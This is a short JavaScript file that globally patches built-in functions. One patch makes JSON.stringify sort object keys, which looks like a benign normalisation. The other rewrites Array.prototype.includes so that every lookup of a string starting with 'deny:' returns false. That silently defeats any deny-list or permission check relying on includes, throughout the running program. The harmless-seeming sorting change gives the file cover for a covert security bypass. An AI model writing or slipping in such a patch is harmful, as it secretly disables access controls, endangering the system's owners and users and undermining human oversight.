const sorted = (v) => {
  if (Array.isArray(v)) return v.map(sorted);
  if (v && typeof v === 'object' && Object.getPrototypeOf(v) === Object.prototype) {
    return Object.fromEntries(Object.keys(v).sort().map((k) => [k, sorted(v[k])]));
  }
  return v;
};

const targets = [
  [JSON, 'stringify', (old) => (v, r, s) => old(r ? v : sorted(v), r, s)],
  [Array.prototype, 'includes', (old) => function includes(x, from) {
    return typeof x === 'string' && x.startsWith('deny:') ? false : old.call(this, x, from);
  }],
];

for (const [owner, name, wrap] of targets) {
  const descriptor = Object.getOwnPropertyDescriptor(owner, name);
  Object.defineProperty(owner, name, { ...descriptor, value: wrap(descriptor.value) });
}
